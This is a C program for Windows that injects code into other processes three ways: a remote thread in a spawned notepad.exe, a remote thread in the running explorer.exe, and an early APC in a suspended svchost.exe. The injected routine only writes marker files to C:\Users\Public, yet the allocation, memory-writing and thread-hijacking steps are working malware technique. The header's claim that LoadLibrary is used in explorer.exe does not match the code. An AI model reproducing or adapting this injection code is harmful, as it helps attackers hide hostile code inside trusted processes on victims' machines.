/* Puts code into other processes: a remote thread in notepad.exe, LoadLibrary in explorer.exe, an early APC. */
#include <windows.h>
#include <tlhelp32.h>
#include <stdio.h>
#include <string.h>

typedef HANDLE(WINAPI *create_file)(LPCSTR, DWORD, DWORD, LPSECURITY_ATTRIBUTES, DWORD, DWORD, HANDLE);
struct context { create_file create; char path[64]; };

/* Position independent: it uses only what its argument holds. */
static DWORD WINAPI injected(struct context *c)
{
    c->create(c->path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    return 7;
}
static void end(void) { }

static DWORD pid_of(const char *name)
{
    PROCESSENTRY32 entry = {sizeof entry};
    HANDLE snapshot = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    DWORD pid = 0;
    for (BOOL more = Process32First(snapshot, &entry); more; more = Process32Next(snapshot, &entry))
        if (!_stricmp(entry.szExeFile, name)) pid = entry.th32ProcessID;
    CloseHandle(snapshot);
    return pid;
}

static void put(HANDLE process, const char *path, void **code, void **data)
{
    struct context c;
    SIZE_T size = (char *)end - (char *)injected;
    if (size > 4096) size = 256;
    c.create = (create_file)GetProcAddress(GetModuleHandleA("kernel32.dll"), "CreateFileA");
    strcpy(c.path, path);
    *code = VirtualAllocEx(process, NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    *data = VirtualAllocEx(process, NULL, sizeof c, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    WriteProcessMemory(process, *code, (void *)injected, size, NULL);
    WriteProcessMemory(process, *data, &c, sizeof c, NULL);
}

int main(void)
{
    STARTUPINFOA si = {sizeof si};
    PROCESS_INFORMATION pi;
    void *code, *data;
    char back[64] = "";
    char command[] = "notepad.exe";
    if (CreateProcessA(NULL, command, NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi)) {
        put(pi.hProcess, "C:\\Users\\Public\\remote_thread.txt", &code, &data);
        HANDLE t = CreateRemoteThread(pi.hProcess, NULL, 0, (LPTHREAD_START_ROUTINE)code, data, 0, NULL);
        WaitForSingleObject(t, 5000);
        ReadProcessMemory(pi.hProcess, (char *)data + sizeof(void *), back, sizeof back, NULL);
        OutputDebugStringA(back);
    }
    HANDLE explorer = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid_of("explorer.exe"));
    put(explorer, "C:\\Users\\Public\\in_explorer.txt", &code, &data);
    CreateRemoteThread(explorer, NULL, 0, (LPTHREAD_START_ROUTINE)code, data, 0, NULL);
    Sleep(200);
    char second[] = "svchost.exe";
    if (CreateProcessA(NULL, second, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL, NULL, &si, &pi)) {
        put(pi.hProcess, "C:\\Users\\Public\\early_apc.txt", &code, &data);
        QueueUserAPC((PAPCFUNC)code, pi.hThread, (ULONG_PTR)data);
        ResumeThread(pi.hThread);
    }
    return 0;
}
